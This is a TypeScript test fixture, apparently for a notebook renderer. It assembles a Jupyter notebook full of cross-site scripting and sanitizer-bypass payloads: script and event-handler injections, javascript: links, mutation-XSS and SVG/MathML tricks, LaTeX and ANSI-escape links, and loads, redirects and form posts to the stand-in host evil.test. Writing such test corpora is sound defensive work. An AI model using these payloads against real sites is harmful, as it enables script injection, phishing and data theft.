const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="canary(\'svg onload\')">' +
  '<script>canary("svg script")</script><image href="http://evil.test/i.png" width="1" height="1"/>' +
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="canary(\'foreign\')"/></body></foreignObject></svg>';

/** Markup that runs a script, asks for something, or looks like a part of the page, where it is let. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>canary("script")</script>',
  '<SCRIPT SRC="http://evil.test/s.js"></SCRIPT>',
  '<img src=x onerror="canary(\'img\')">',
  '<img src="http://evil.test/pixel.png" srcset="http://evil.test/2.png 2x" alt="pixel">',
  '<img/src/onerror=canary("slashes")>',
  '<svg/onload=canary("svg")>',
  '<svg><script>canary("inline svg")</script><a xlink:href="javascript:canary(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=canary("animate") attributeName=x dur=1s></svg>',
  '<svg><style><img src=x onerror=canary("style in svg")></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary(\'mxss\')&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=canary("annotation")></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary("form")>',
  '<noscript><p title="</noscript><img src=x onerror=canary(\'noscript\')>">',
  '<a href="javascript:canary(\'link\')">link</a>',
  '<a href="  java\tscript:canary(\'tab\')">link</a>',
  '<a href="&#106;avascript:canary(\'entity\')">link</a>',
  '<a href="data:text/html,<script>canary(1)</script>">link</a>',
  '<a href="file:///etc/passwd">link</a>',
  '<a href="//evil.test/">link</a>',
  '<a class="casebook-notebook" download="evil.ipynb" href="data:application/x-ipynb+json;base64,e30=">Download</a>',
  '<iframe srcdoc="<script>parent.canary(\'srcdoc\')</script>"></iframe>',
  '<iframe src="javascript:parent.canary(\'frame\')"></iframe>',
  '<object data="http://evil.test/o"></object><embed src="http://evil.test/e">',
  '<link rel="stylesheet" href="http://evil.test/s.css">',
  '<style>@import "http://evil.test/i.css"; body { display: none }</style>',
  '<p style="background: url(http://evil.test/b.png); position: fixed; inset: 0">cover</p>',
  '<base href="http://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
  '<form action="http://evil.test/"><input name="code"><button>Approve</button></form>',
  '<button onclick="canary(\'button\')" popovertarget="top">press</button>',
  '<video src="http://evil.test/v" onerror="canary(\'video\')"></video><audio src="http://evil.test/a"></audio>',
  '<details open ontoggle="canary(\'toggle\')"><summary>x</summary></details>',
  '<input autofocus onfocus="canary(\'focus\')">',
  '<body onload="canary(\'body\')" onpageshow="canary(\'pageshow\')">',
  '<div id="top" class="facts"><div><dt>Verdict</dt></div></div>',
  '<template><script>canary("template")</script></template>',
  '<div data-background-iframe="http://evil.test/f" data-src="http://evil.test/d" data-autoslide="1">slide</div>',
  '</div></section></main></body><script>canary("closed")</script>',
  '</style></title></textarea><script>canary("rawtext")</script>',
  '<!--><script>canary("comment")</script>-->',
  '<x onclick=canary("unknown") style="animation: x">unknown</x>'
];

const MARKDOWN: readonly string[] = [
  '[a](javascript:canary("md"))',
  '[a](<javascript:canary("md2")>)',
  '[a][r]\n\n[r]: javascript:canary("reference")',
  '[a](vbscript:canary) <javascript:canary("auto")>',
  '![a](javascript:canary("image"))',
  '![a](http://evil.test/md.png "title\\" onerror=canary(1)")',
  '![a](x" onerror="canary(\'quote\'))',
  '```"><img src=x onerror=canary("fence")>\ncode\n```',
  '```python" onmouseover="canary(\'lang\')\ncode\n```',
  '# <img src=x onerror=canary("heading")> heading',
  '## [x](javascript:canary("toc")) & <b>bold</b>',
  '$\\href{javascript:canary("tex")}{x}$ and $\\includegraphics{http://evil.test/t.png}$',
  '$\\htmlData{onclick=canary("data")}{x}$ $\\class{facts}{x}$ $\\unicode{<img src=x onerror=canary("unicode")>}$',
  '$$\\text{<img src=x onerror=canary("text")>}$$',
  '<a title="$"><img src=x onerror=canary(\'math\')>$">x</a>',
  '[x](https://ok.test/$"onmouseover="canary(1)$)',
  '<b title="@@0@@">x</b> $"><script>canary("place")</script>$',
  '- [ ] <script>canary("task")</script> task'
];

/** A notebook that tries everything, and says that it is trusted. */
export function hostileNotebook(): object {
  const evil =
    '"><img src=x onerror=canary("field")><script>canary(1)</script>';
  const metadata = { trusted: true };
  const display = (data: object) => ({
    output_type: 'display_data',
    metadata: {},
    data
  });
  const code = (source: string, outputs: object[]) => ({
    cell_type: 'code',
    execution_count: 1,
    metadata,
    source,
    outputs
  });
  const markdown = (source: string, rest: object = {}) => ({
    cell_type: 'markdown',
    metadata,
    source,
    ...rest
  });
  const table = {
    caption: `Suspects: ${evil}`,
    columns: [{ key: 'a', label: evil, unit: evil, align: evil }],
    rows: [{ a: evil }],
    notes: [evil],
    headline: evil,
    tone: evil
  };
  const own = {
    'application/vnd.casebook.chart.v1+json': {
      svg: SVG,
      alt: evil,
      title: evil,
      table
    }
  };
  const plan = {
    id: 'ab',
    what: evil,
    state: 'waiting',
    outcome: evil,
    note: evil
  };
  const cells = [
    markdown(`# Case ${evil}`),
    ...MARKDOWN.map(source => markdown(source)),
    ...HOSTILE_HTML.map(html => markdown(html)),
    ...HOSTILE_HTML.map(html => code('html', [display({ 'text/html': html })])),
    code(`cb.window("${evil}", "2026-11-22T07:05:00Z")`, [
      display({ 'image/svg+xml': SVG, 'text/plain': evil }),
      display({ 'image/png': `"${evil}`, 'text/plain': evil }),
      display({ 'text/markdown': MARKDOWN.join('\n\n') }),
      display({ 'text/latex': `$${evil}$` }),
      display({ 'application/javascript': 'canary("javascript")' }),
      display({
        'text/javascript': 'canary("text javascript")',
        'text/plain': evil
      }),
      display({
        'application/vnd.jupyter.widget-view+json': { model_id: evil }
      }),
      display(own),
      display({
        'application/vnd.casebook.timeseries.v1+json': {
          alt: evil,
          title: evil,
          unit: evil,
          series: [{ name: evil, labels: { a: evil }, values: [evil] }],
          table
        },
        'image/svg+xml': SVG
      }),
      display({
        'application/vnd.casebook.chart.v1+json': { svg: `<svg ${evil}` }
      }),
      display({ 'application/vnd.casebook.table.v1+json': table }),
      display({ 'application/vnd.casebook.plan.v1+json': plan }),
      display({
        'application/vnd.casebook.plan.v1+json': { ...plan, state: evil }
      }),
      { output_type: 'stream', name: evil, text: [evil, '\u001b[31m', evil] },
      {
        output_type: 'stream',
        name: 'stdout',
        text: '\u001b]8;;javascript:canary("osc")\u0007link\u001b]8;;\u0007 \u001b[38;2;1;2;3"onclick=canary(1)m'
      },
      { output_type: 'error', ename: evil, evalue: evil, traceback: [evil] }
    ]),
    markdown(
      '![s](attachment:s.svg) ![h](attachment:h.html) ![q](attachment:q.png)',
      {
        attachments: {
          's.svg': { 'image/svg+xml': btoa(SVG) },
          'h.html': {
            'text/html': btoa('<script>canary("attachment")</script>')
          },
          'q.png': { [`image/png"${evil}`]: evil, 'image/png': evil }
        }
      }
    ),
    { cell_type: 'raw', metadata: { format: 'text/html' }, source: evil },
    {
      cell_type: evil,
      metadata: { slideshow: { slide_type: evil } },
      source: evil
    }
  ];
  return {
    cells,
    metadata: {
      ...metadata,
      title: evil,
      kernelspec: { name: 'python', display_name: evil, language: evil },
      language_info: { name: 'python', mimetype: evil }
    },
    nbformat: 4,
    nbformat_minor: 4
  };
}
